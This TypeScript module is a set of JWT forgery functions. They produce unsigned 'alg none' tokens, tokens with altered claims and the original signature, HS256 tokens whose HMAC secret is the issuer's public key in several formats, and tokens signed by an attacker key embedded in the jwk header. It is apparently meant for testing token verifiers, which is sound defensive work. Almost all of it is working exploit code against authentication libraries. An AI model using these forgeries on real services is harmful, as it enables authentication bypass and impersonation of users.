import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey, sign } from 'node:crypto'

type Members = Record<string, unknown>

/** The claims of a token, unchecked; none where it is no JWT. */
export function claimsOf(token: string): Members {
  return part(token, 1)
}

/** The header of a token, unchecked. */
export function headerOf(token: string): Members {
  return part(token, 0)
}

/** A token with no signature (RFC 7519, section 6). */
export function unsigned(token: string, alg = 'none'): string {
  return `${encoded({ ...headerOf(token), alg })}.${token.split('.')[1]}.`
}

/** A token with other claims, and the signature that it had. */
export function withClaims(token: string, claims: Members): string {
  const [header, , signature] = token.split('.')
  return `${header}.${encoded({ ...claimsOf(token), ...claims })}.${signature}`
}

/** A token with an HMAC whose secret is the issuer's public key, in each form that a library may take it. */
export function hmacWithPublicKey(token: string, key: JsonWebKey): string[] {
  const publicKey = createPublicKey({ key, format: 'jwk' })
  const secrets = [
    publicKey.export({ type: 'spki', format: 'pem' }),
    publicKey.export({ type: 'spki', format: 'der' }),
    JSON.stringify(key),
    Buffer.from(String(key.n ?? key.x), 'base64url'),
  ]
  const content = `${encoded({ ...headerOf(token), alg: 'HS256' })}.${token.split('.')[1]}`
  return secrets.map(
    (secret) => `${content}.${createHmac('sha256', secret).update(content).digest('base64url')}`,
  )
}

/** A token that a key of the attacker's signs, which its header brings along (RFC 7515, section 4.1.3). */
export function withOwnKey(token: string, more: Members = {}): string {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  const header = { ...headerOf(token), alg: 'ES256', jwk: publicKey.export({ format: 'jwk' }), ...more }
  const content = `${encoded(header)}.${token.split('.')[1]}`
  const signature = sign('sha256', Buffer.from(content), { key: privateKey, dsaEncoding: 'ieee-p1363' })
  return `${content}.${signature.toString('base64url')}`
}

function part(token: string, index: number): Members {
  try {
    return JSON.parse(Buffer.from(token.split('.')[index] ?? '', 'base64url').toString('utf8'))
  } catch {
    return {}
  }
}

function encoded(members: Members): string {
  return Buffer.from(JSON.stringify(members)).toString('base64url')
}
